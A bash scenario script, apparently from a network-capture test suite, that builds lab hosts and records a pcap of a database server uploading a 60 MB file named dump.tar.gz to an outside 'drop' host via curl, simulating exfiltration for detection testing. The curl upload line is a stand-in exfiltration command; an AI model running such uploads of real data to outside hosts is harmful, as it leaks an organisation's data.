#!/bin/bash
# A database server uploads 60 MB to a stranger outside. Segmentation offload is on and frames are cut at 100 bytes, as a mirror
# session with a PacketLength would, so the lengths on the wire are in the headers and hardly any payload is in the file.
. "$(dirname "$0")/lib.sh"
needs curl nginx
router
host database 10.20.2.50
host drop 198.51.100.140
for e in "vpc database" "vpc drop" "database eth0" "drop eth0"; do
	set -- $e
	in_ "$1" ethtool -K "$2" tso on gso on gro on tx on >/dev/null 2>&1
	ip -n "$RUN-$1" link set "$2" gso_max_segs 65535
done
authority
certificate upload.example.net 20250101000000Z 20351231235959Z
web_server drop <<END
	server { listen 443 ssl; ssl_certificate $TMP/upload.example.net.pem; ssl_certificate_key $TMP/upload.example.net.key; location / { return 200 "ok"; } }
END
listening drop 443
head -c 60000000 /dev/urandom >"$TMP/dump.tar.gz"
tap database outbound-volume.pcap -s 100
in_ database curl -s -o "$TMP/o" --limit-rate 12M --cacert "$TMP/ca.pem" --resolve upload.example.net:443:198.51.100.140 -T "$TMP/dump.tar.gz" https://upload.example.net/x
save outbound-volume.pcap outbound-volume.pcap.gz
